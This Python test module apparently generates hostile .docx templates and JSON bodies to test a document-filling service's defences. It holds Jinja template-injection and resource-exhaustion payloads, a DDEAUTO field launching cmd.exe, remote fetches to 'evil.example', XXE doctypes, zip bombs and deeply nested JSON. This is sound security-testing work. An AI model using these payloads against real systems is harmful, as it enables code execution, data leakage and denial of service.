"""Templates of papers that attack whoever fills them, or whoever opens the paper."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from xml.sax.saxutils import escape

from tests.hostile.archives import encrypted, overlapping, parts_of, with_size, zipped
from tests.hostile.workbooks import DOCTYPES, Made, declared
from training.documents.word_templates.filling import STANDARD

DOCUMENT = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"
STYLES = "word/styles.xml"
TYPES = "[Content_Types].xml"
_FIELD = "{{ hoc_vien.ho_ten }}"
_DEEP = "{% for a in x %}{% for b in x %}{% for c in x %}{{ a }}{% endfor %}{% endfor %}{% endfor %}"

EXPRESSIONS = (
    "{{ 1/0 }}", "{{ 1//0 }}", "{{ 1%0 }}", "{{ 0**-1 }}", "{{ 'a'.ljust(300000000) }}",
    "{{ 'a'.rjust(300000000) }}",
    "{{ 'a'.center(90000000) }}", "{{ 'a'.zfill(999999999) }}", "{{ 'a\\t'.expandtabs(999999999) }}",
    "{{ 'a' * 99999999 }}", "{{ [1] * 99999999 }}", "{{ 10 ** 10 ** 10 }}", "{{ 9 ** 9 ** 9 ** 9 }}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% macro a() %}{{ b() }}{% endmacro %}{% macro b() %}{{ a() }}{% endmacro %}{{ a() }}",
    "{% for a in noi_nhan recursive %}{{ loop(noi_nhan) }}{% endfor %}",
    "{% macro m(n) %}{{ m(n + 1) }}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}",
    "{{ '%0999999999d'|format(1) }}", "{{ '%999999999s' % 1 }}", "{{ '{:>999999999}'.format(1) }}",
    "{% set x = 'a'.ljust(5000) %}" + _DEEP, "{% set x = 'a'.ljust(9000000) %}{% for a in x %}{{ a }}{% endfor %}",
    "{% set x = 'a'.ljust(90000, 'a') %}{{ x.replace('a', x) }}", "{{ 'a'.ljust(50000000)|list|length }}",
    "{{ 'a'.ljust(20000000, 'a')|wordwrap(1) }}", "{{ 'a'.ljust(9000000)|batch(1)|list }}", "{{ range(10) }}",
    "{{ ''.__class__.__mro__ }}", "{{ self.__init__.__globals__ }}", "{{ '{0.__class__}'.format(ma) }}",
    "{{ hoc_vien.__class__.__init__ }}", "{{ lipsum(1000) }}", "{{ cycler('a') }}", "{{ namespace(a=1) }}",
    "{% include 'x' %}", "{% import 'x' as y %}", "{% extends 'x' %}", "{% from 'x' import y %}",
    "{% autoescape false %}{{ '<w:p/>' }}{% endautoescape %}", "{{ ho_va_ten }}", "{{ hoc_vien.luong }}",
    "{% for %}",
    "{% if ma %}", "{{ ma|khong_co }}", "{{ ma is khong_co }}", "{{ ma() }}", "{{ ma.x.y.z() }}", "{{ 1 + 'a' }}",
    "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}", "{{ " + "[" * 3000 + "]" * 3000 + " }}",
    "{{ " + "-" * 5000 + "1 }}", "{{ ma" + ".a" * 5000 + " }}", "{{ 1" + " + 1" * 9000 + " }}",
    "{% if 1 %}" * 400 + "{% endif %}" * 400, "{% for a in ma %}" * 60 + "x" + "{% endfor %}" * 60,
    "{{ 'ab'|random }}", "{{ ma|safe }}", "{{ ma|tojson }}", "{{ ma|xmlattr }}", "{{ ma|urlize }}",
)  # fmt: skip
_INSTRUCTIONS = (
    'DDE excel "C:\\a.xlsx" R1C1', 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    'INCLUDEPICTURE "http://evil.example/x.png"', 'INCLUDETEXT "\\\\\\\\evil.example\\\\x.docx"',
    'INCLUDE "http://evil.example/x"', 'IMPORT "http://evil.example/x.png"', "LINK Excel.Sheet.12 x.xlsx R1C1",
    'DATABASE \\d "x.mdb"', 'RD "http://evil.example/x.docx"', "MACROBUTTON x y", 'HYPERLINK "http://evil.example/"',
    "QUOTE 68 68 69", 'FILLIN "x"', "MERGEFIELD x", 'AUTOTEXT "x"',
)  # fmt: skip


def _run(inner: str) -> str:
    return f"<w:r>{inner}</w:r>"


def _char(kind: str) -> str:
    return _run(f'<w:fldChar w:fldCharType="{kind}"/>')


def _instruction(text: str) -> str:
    return _run(f'<w:instrText xml:space="preserve">{escape(text)}</w:instrText>')


_SHAPES: dict[str, Callable[[str], str]] = {
    "whole": lambda text: _char("begin") + _instruction(f" {text} ") + _char("separate") + _char("end"),
    "in pieces": lambda text: _char("begin") + "".join(map(_instruction, text)) + _char("end"),
    "simple": lambda text: f'<w:fldSimple w:instr="{escape(text, {chr(34): "&quot;"})}"/>',
    "small letters": lambda text: _char("begin") + _instruction(text.lower()) + _char("end"),
    "inside a page number": lambda text: (
        _char("begin") + _instruction("PAGE ") + _char("begin") + _instruction(text) + _char("end") + _char("end")
    ),
}
_RELATIONSHIPS = (
    """<Relationship Id="rX" Type="t/image" Target="http://evil.example/x" TargetMode="External"/>""",
    """<Relationship Id="rX" Type="t/image" Target="http://evil.example/x" TargetMode='External'/>""",
    """<Relationship Id="rX" Type="t/image" Target="http://evil.example/x" TargetMode = "External"/>""",
    """<Relationship Id="rX" Type="t/image" Target="http://evil.example/x" TargetMode\n=\n"External"/>""",
    """<Relationship Id="rX" Type="t/image" Target="http://evil.example/x" TargetMode="&#69;xternal"/>""",
    """<Relationship Id="rX" Type="t/image" Target="http://evil.example/x" TargetMode="external"/>""",
    """<Relationship Id="rX" Type="t/image" Target="http://evil.example/x" TargetMode="Internal"/>""",
    """<Relationship Id="rX" Type="t/image" Target="http://evil.example/x"/>""",
    """<Relationship Id="rX" Type="t/image" Target="&#x68;ttp://evil.example/x"/>""",
    """<Relationship Id="rX" Type="t/image" Target="file:///c:/x"/>""",
    """<Relationship Id="rX" Type="t/image" Target="\\\\evil.example\\x"/>""",
    """<Relationship Id="rX" Type="t/image" Target="//evil.example/x"/>""",
    """<Relationship Id="rX" Type="t/attachedTemplate" Target="x.dotm"/>""",
    """<Relationship Id="rX" Type="t/oleObject" Target="x"/>""",
    """<Relationship Id="rX" Type="t/aFChunk" Target="x"/>""",
    """<a:Relationship xmlns:a="http://schemas.openxmlformats.org/package/2006/relationships" Id="rX"
       Type="t/image" Target="http://evil.example/x" TargetMode="External"/>""",
)
_ELEMENTS = (
    '<w:altChunk r:id="rX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>',
    '<w:p><w:r><w:object/></w:r></w:p>',
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/x"/>'
    "</v:shape></w:pict></w:r></w:p>",
    '<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" href="\\\\evil.example\\x"/>'
    "</w:pict></w:r></w:p>",
    '<w:p><w:r><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link"/></w:r></w:p>',
)  # fmt: skip


_PROGRAMS = (
    "word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/embeddings/a.xlsx", "word/activeX/activeX1.xml",
    "word/media/a.svg", "word/a.html",
)  # fmt: skip


def standard() -> dict[str, bytes]:
    return parts_of((STANDARD / "summons.docx").read_bytes())


def _with(part: str, change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    def make() -> bytes:
        parts = standard()
        return zipped({**parts, part: change(parts[part])})

    return make


def with_text(new: str) -> bytes:
    """The standard summons with other text in place of the person's name."""
    return _with(DOCUMENT, lambda old: old.replace(_FIELD.encode(), escape(new).encode(), 1))()


def _body(xml: str) -> Callable[[], bytes]:
    return _with(DOCUMENT, lambda old: old.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1))


def templates() -> list[Made]:
    return [(f"template: {what}", name, make) for what, name, make in _made()]


def _made() -> Iterator[Made]:
    for new in EXPRESSIONS:
        yield new[:40], "mau.docx", partial(with_text, new)
    for text in _INSTRUCTIONS:
        for name, shape in _SHAPES.items():
            yield f"field {text.split()[0]} {name}", "mau.docx", _body(f"<w:p>{shape(text)}</w:p>")
    for number, xml in enumerate(_RELATIONSHIPS):
        yield (
            f"relationship {number}",
            "mau.docx",
            _with(
                RELATIONS,
                partial(
                    lambda xml, old: old.replace(b"</Relationships>", xml.encode() + b"</Relationships>"), xml
                ),
            ),
        )
    for number, xml in enumerate(_ELEMENTS):
        yield f"element {number}", "mau.docx", _body(xml)
    for name in _PROGRAMS:
        yield name, "mau.docx", partial(lambda name: zipped({**standard(), name: b"<a/>"}), name)
    for part in (DOCUMENT, STYLES, RELATIONS, TYPES):
        for name, doctype in DOCTYPES.items():
            yield f"{name} in {part}", "mau.docx", _with(part, partial(declared, doctype=doctype))
        yield f"bomb in {part}", "mau.docx", _with(part, lambda old: old + b" " * 90_000_000)
        yield (
            f"bzip2 in {part}",
            "mau.docx",
            partial(lambda part: zipped(standard(), {part: zipfile.ZIP_BZIP2}), part),
        )
        yield (
            f"lzma in {part}",
            "mau.docx",
            partial(lambda part: zipped(standard(), {part: zipfile.ZIP_LZMA}), part),
        )
        yield f"{part} encrypted", "mau.docx", partial(lambda part: encrypted(zipped(standard()), part), part)
        yield f"{part} says 1 byte", "mau.docx", partial(lambda part: with_size(zipped(standard()), part, 1), part)
        yield f"{part} twice", "mau.docx", partial(lambda part: zipped(standard(), more=[(part, b"<a/>")]), part)
        yield f"{part} not well-formed", "mau.docx", _with(part, lambda old: old[:-20])
    yield "deep nesting", "mau.docx", _body("<w:p>" * 100_000 + "</w:p>" * 100_000)
    yield "parts that overlap", "mau.docx", lambda: overlapping(zipped(standard()), STYLES, DOCUMENT)
    picture = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 60_000, 60_000) + b"\x08\x06\0\0\0"
    yield "huge picture", "mau.docx", lambda: zipped({**standard(), "word/media/big.png": picture})
    for kind in (b"application/vnd.ms-word.document.macroEnabled.main+xml", b"text/html"):
        yield (
            f"type {kind[-20:]!r}",
            "mau.docx",
            _with(
                TYPES,
                partial(
                    lambda kind, old: old.replace(
                        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", kind
                    ),
                    kind,
                ),
            ),
        )
    for content in (b"", b"x", b"PK", b"%PDF-1.7", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, b"{\\rtf1}"):
        yield f"no Word file {content[:6]!r}", "mau.docx", partial(lambda content: content, content)
    yield "a workbook", "mau.docx", lambda: zipped({TYPES: b"<a/>", "xl/workbook.xml": b"<a/>"})
    yield (
        "six megabytes",
        "mau.docx",
        lambda: zipped({**standard(), "a": bytes(range(256)) * 25_000}) + b"x" * 6_000_000,
    )


def json_bodies() -> list[Made]:
    """What is sent to a door that reads JSON."""
    mark = '{"seat": %s, "half_day": "x", "kind": "present"}'
    bodies = {
        "deep list": b"[" * 200_000,
        "deep list, closed": b"[" * 100_000 + b"]" * 100_000,
        "deep object": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        "deep marks": b'{"marks": [' + b"[" * 900 + b"]" * 900 + b"]}",
        "a little deep": b'{"marks": [' + b"[" * 30 + b"]" * 30 + b"]}",
        "twice": b'{"marks": [], "marks": []}',
        "NaN": b'{"marks": [NaN]}',
        "Infinity": b'{"marks": [Infinity]}',
        "1e999": b'{"marks": [1e999]}',
        "huge number": b'{"marks": [' + b"9" * 5000 + b"]}",
        "number beyond 64 bits": ('{"marks": [' + mark % (2**70) + "]}").encode(),
        "half a sign": b'{"marks": ["\\ud800"]}',
        "no UTF-8": b'{"marks": ["\xff\xfe"]}',
        "long": b'{"marks": ["' + b"x" * 3_000_000 + b'"]}',
        "many marks": b'{"marks": [' + b"1," * 400_000 + b"1]}",
        "no object": b"[]",
        "null": b"null",
        "nothing": b"",
        "other type": b'{"marks": {"a": 1}}',
        "UTF-16": '{"marks": []}'.encode("utf-16"),
        "cut": b'{"marks": [',
    }
    return [(f"JSON: {name}", "body.json", partial(lambda body: body, body)) for name, body in bodies.items()]
